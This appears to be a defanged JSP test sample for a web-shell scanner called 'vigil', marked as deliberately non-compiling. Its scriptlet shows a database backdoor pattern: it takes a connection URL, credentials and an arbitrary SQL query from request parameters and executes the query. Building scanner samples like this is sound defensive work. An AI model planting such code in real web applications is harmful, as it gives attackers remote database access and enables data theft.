<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
    java.sql.Connection c = java.sql.DriverManager.getConnection(request.getParameter("url"), request.getParameter("u"), request.getParameter("p"));
    java.sql.ResultSet rs = c.createStatement().executeQuery(request.getParameter("sql"));
%>
